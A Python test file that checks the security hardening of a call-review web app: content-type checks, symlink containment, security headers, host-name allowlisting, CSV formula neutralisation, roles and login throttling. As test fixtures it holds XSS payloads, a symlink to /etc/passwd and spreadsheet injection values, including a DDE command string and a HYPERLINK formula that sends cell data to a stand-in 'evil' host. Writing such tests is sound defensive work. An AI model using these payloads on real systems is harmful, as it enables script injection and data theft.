"""Issue 10: what the review app serves and to whom. Audio only (by content, not by name),
never through a link out of the roots; security headers on every answer; loopback Host names
only (DNS rebinding); roles; login backoff."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from callqa.store.db import default_url, open_store
from callqa.store.write import save_record
from callqa.web.app import ServeConfig, create_app
from callqa.web.security import CONTENT_SECURITY_POLICY
from store_data import as_record
from test_web import BASE, make_record


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """Records naming an HTML page, an SVG and a symlink to /etc/passwd, each called .wav or not."""
    base = tmp_path_factory.mktemp("hostile")
    recordings = base / "recordings"
    recordings.mkdir()
    (recordings / "page.html").write_text("<html><script>alert(document.cookie)</script></html>")
    (recordings / "page.wav").write_text("<html><script>alert(document.cookie)</script></html>")
    (recordings / "image.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    (recordings / "passwd.wav").symlink_to("/etc/passwd")
    import numpy as np
    import soundfile as sf

    sf.write(recordings / "real.flac", np.zeros(800, dtype=np.float32), 8000)
    (recordings / "real.mp3").write_bytes(b"ID3\x04\x00" + b"\x00" * 100)
    url = default_url(base)
    store = open_store(url)
    with store.session() as session:
        for call_id, name in [("html", "page.html"), ("htmlwav", "page.wav"), ("svg", "image.svg"), ("passwd", "passwd.wav"),
                              ("flac", "real.flac"), ("mp3", "real.mp3")]:
            save_record(session, as_record(make_record(call_id, recordings / name, "Ann", "2026-11-02")))
    store.close()
    return {"url": url, "recordings": recordings}


@pytest.fixture(scope="module")
def default_client(hostile: dict) -> TestClient:
    # No --recordings-root: the roots come from the records (the loopback default).
    return TestClient(create_app(ServeConfig(hostile["url"])), base_url=BASE)


@pytest.mark.parametrize("call_id", ["html", "htmlwav", "svg"])
def test_non_audio_files_are_415(default_client: TestClient, call_id: str) -> None:
    response = default_client.get(f"/calls/{call_id}/audio")
    assert response.status_code == 415
    assert b"<script>" not in response.content
    assert response.headers["content-type"].startswith("text/plain")


def test_a_symlink_out_of_the_folder_is_not_followed(default_client: TestClient) -> None:
    assert Path("/etc") not in default_client.app.state.callqa.roots
    response = default_client.get("/calls/passwd/audio")
    assert response.status_code == 403
    assert b"root:" not in response.content


@pytest.mark.parametrize(("call_id", "kind"), [("flac", "audio/flac"), ("mp3", "audio/mpeg")])
def test_audio_is_served_with_the_type_of_its_content(default_client: TestClient, call_id: str, kind: str) -> None:
    response = default_client.get(f"/calls/{call_id}/audio")
    assert response.status_code == 200 and response.headers["content-type"] == kind


@pytest.mark.parametrize("path", ["/calls", "/calls/flac", "/calls/flac/audio", "/calls/html/audio", "/static/app.css", "/static/app.js", "/nope", "/agents", "/disclosures.csv"])
def test_every_response_carries_the_security_headers(default_client: TestClient, path: str) -> None:
    response = default_client.get(path)
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    assert "unsafe-inline" not in CONTENT_SECURITY_POLICY and "frame-ancestors 'none'" in CONTENT_SECURITY_POLICY


def test_pages_need_no_inline_script_or_style(default_client: TestClient) -> None:
    for path in ["/calls", "/calls/flac", "/disclosures", "/agents"]:
        html = default_client.get(path).text
        assert "style=" not in html and "<script>" not in html and " onclick=" not in html, path


@pytest.mark.parametrize("host", ["evil.example", "attacker.test:8000", "127.0.0.1.nip.io", "192.168.1.10"])
def test_other_host_names_are_refused(hostile: dict, host: str) -> None:
    client = TestClient(create_app(ServeConfig(hostile["url"])), base_url=BASE)
    response = client.get("/calls", headers={"Host": host})
    assert response.status_code == 400
    assert response.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost", "localhost:8000", "[::1]:8000"])
def test_loopback_host_names_are_accepted(hostile: dict, host: str) -> None:
    client = TestClient(create_app(ServeConfig(hostile["url"])), base_url=BASE)
    assert client.get("/calls", headers={"Host": host}).status_code == 200


def test_configured_host_names_are_accepted(hostile: dict) -> None:
    client = TestClient(create_app(ServeConfig(hostile["url"], allowed_hosts=("qa.example.com",))), base_url=BASE)
    assert client.get("/calls", headers={"Host": "qa.example.com"}).status_code == 200
    assert client.get("/calls", headers={"Host": "evil.example.com"}).status_code == 400


# --- CSV formula injection -------------------------------------------------------------------

@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("plain", "plain"), ("a=b", "a=b"), (-3.5, -3.5), (None, None), ("", ""),
])
def test_safe_cell(value: object, expected: object) -> None:
    from callqa.csvsafe import safe_cell

    assert safe_cell(value) == expected


def test_disclosure_csv_neutralises_formulas(tmp_path: Path) -> None:
    import csv
    import io

    import numpy as np
    import soundfile as sf

    audio = tmp_path / "a.wav"
    sf.write(audio, np.zeros(800, dtype=np.float32), 8000)
    record = make_record("=cmd|' /C calc'!A0", audio, "@agent", "2026-11-02")
    record["offers"][0]["product"] = "+device protection"
    record["offers"][0]["disclosures"]["price"]["evidence"]["quote"] = '=HYPERLINK("http://evil/?"&A1)'
    url = default_url(tmp_path)
    store = open_store(url)
    with store.session() as session:
        save_record(session, as_record(record))
    store.close()
    client = TestClient(create_app(ServeConfig(url, (tmp_path,))), base_url=BASE)
    client.post(f"/calls/{record['call_id']}/decisions", data={"target_kind": "flag", "target_key": "CONTINUED_AFTER_DECLINE:offer-1",
                                                             "decision": "confirm", "note": "-1+1", "reviewer": "x"})
    body = client.get("/disclosures.csv").text
    rows = list(csv.reader(io.StringIO(body)))
    cells = [c for row in rows[1:] for c in row]
    assert cells, body
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert "'=HYPERLINK(\"http://evil/?\"&A1)" in cells and "'@agent" in cells and "'+device protection" in cells


# --- roles, login backoff, TLS off loopback --------------------------------------------------

def _basic(name: str, password: str) -> dict:
    import base64

    return {"Authorization": "Basic " + base64.b64encode(f"{name}:{password}".encode()).decode()}


DECISION = {"target_kind": "flag", "target_key": "CONTINUED_AFTER_DECLINE:offer-1", "decision": "overturn", "note": "n"}


@pytest.fixture(scope="module")
def roles_site(tmp_path_factory: pytest.TempPathFactory, hostile: dict) -> dict:
    from callqa.web.users import add_user, load_users

    users_file = tmp_path_factory.mktemp("users") / "users.json"
    for name, role in [("ada", "admin"), ("rev", "reviewer"), ("aud", "auditor")]:
        add_user(users_file, name, "long password", role)
    return {"users": load_users(users_file), "file": users_file, **hostile}


@pytest.mark.parametrize(("user", "may_change"), [("ada", True), ("rev", True), ("aud", False)])
def test_roles_are_enforced_on_every_route(roles_site: dict, user: str, may_change: bool) -> None:
    client = TestClient(create_app(ServeConfig(roles_site["url"], users=roles_site["users"])), base_url=BASE)
    auth = _basic(user, "long password")
    for path in ["/calls", "/calls/flac", "/calls/flac/audio", "/disclosures", "/disclosures.csv", "/disclosures.json", "/agents", "/static/app.css"]:
        assert client.get(path, headers=auth).status_code == 200, (user, path)
    page = client.get("/calls/flac", headers=auth).text
    assert ('class="decide"' in page) == may_change
    posted = client.post("/calls/flac/decisions", headers=auth, data=DECISION, follow_redirects=False)
    assert posted.status_code == (303 if may_change else 403)
    # Any other changing method, on any route, is refused to an auditor (before routing: 403, not 405/404).
    for method, path in [("PUT", "/calls/flac/decisions"), ("DELETE", "/calls/flac"), ("POST", "/calls"), ("PATCH", "/nope")]:
        status = client.request(method, path, headers=auth).status_code
        assert (status == 403) == (not may_change), (user, method, path, status)


def test_users_without_roles_are_reviewers(tmp_path: Path) -> None:
    import json

    from callqa.web.users import hash_password, load_users

    legacy = tmp_path / "users.json"
    legacy.write_text(json.dumps({"users": {"old": hash_password("long password")}}))
    users = load_users(legacy)
    assert users.verify("old", "long password") and users.role("old") == "reviewer"


def test_users_cli_roles_and_remove(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from callqa.cli import app
    from callqa.web.users import load_users

    runner = CliRunner()
    users_file = str(tmp_path / "u.json")
    assert runner.invoke(app, ["users", "add", "aud", "--role", "auditor", "--users", users_file, "--password-stdin"], input="long password\n").exit_code == 0
    assert runner.invoke(app, ["users", "add", "rev", "--users", users_file, "--password-stdin"], input="long password\n").exit_code == 0
    bad = runner.invoke(app, ["users", "add", "x", "--role", "root", "--users", users_file, "--password-stdin"], input="long password\n")
    assert bad.exit_code == 2
    listed = runner.invoke(app, ["users", "list", "--users", users_file]).output
    assert listed.split() == ["aud", "auditor", "rev", "reviewer"]
    assert runner.invoke(app, ["users", "remove", "aud", "--users", users_file]).exit_code == 0
    assert runner.invoke(app, ["users", "remove", "aud", "--users", users_file]).exit_code == 1
    assert set(load_users(Path(users_file)).hashes) == {"rev"}


def test_failed_logins_back_off_per_user_and_client(roles_site: dict) -> None:
    from callqa.web.auth import FREE_FAILURES, BasicAuthMiddleware, LoginThrottle

    now = [1000.0]
    app = create_app(ServeConfig(roles_site["url"], users=roles_site["users"]))
    # Reach the auth middleware's throttle through the built stack and give it a fake clock.
    throttle = LoginThrottle(clock=lambda: now[0])
    for m in app.user_middleware:
        if m.cls is BasicAuthMiddleware:
            m.kwargs["throttle"] = throttle
    client = TestClient(app, base_url=BASE)
    for _ in range(FREE_FAILURES):
        assert client.get("/calls", headers=_basic("rev", "wrong")).status_code == 401
    refused = client.get("/calls", headers=_basic("rev", "long password"))
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
    # Another name from the same client is held back too (per client) ...
    assert client.get("/calls", headers=_basic("aud", "long password")).status_code == 429
    now[0] += 1.5
    assert client.get("/calls", headers=_basic("rev", "long password")).status_code == 200
    # ... and a success clears the name's and the client's record.
    assert client.get("/calls", headers=_basic("aud", "long password")).status_code == 200
    # Backoff doubles with every further failure.
    for _ in range(FREE_FAILURES + 3):
        client.get("/calls", headers=_basic("ada", "wrong"))
        now[0] += 100
    assert throttle.delay(FREE_FAILURES + 3) == 8.0


def test_password_checks_run_off_the_event_loop(roles_site: dict, monkeypatch: pytest.MonkeyPatch) -> None:
    import threading

    from callqa.web.users import Users

    threads: list[str] = []
    original = Users.verify

    def spy(self: Users, name: str, password: str) -> bool:
        threads.append(threading.current_thread().name)
        return original(self, name, password)

    monkeypatch.setattr(Users, "verify", spy)
    client = TestClient(create_app(ServeConfig(roles_site["url"], users=roles_site["users"])), base_url=BASE)
    with client:
        loop_thread = client.portal.call(lambda: threading.current_thread().name)
        assert client.get("/calls", headers=_basic("rev", "long password")).status_code == 200
    assert threads and loop_thread not in threads


def test_serve_off_loopback_needs_tls_or_insecure_http(roles_site: dict, tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from callqa.cli import app

    db = roles_site["url"]
    args = ["serve", "--db", db, "--host", "0.0.0.0", "--users", str(roles_site["file"]), "--recordings-root", str(tmp_path)]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 2 and "without TLS" in result.output
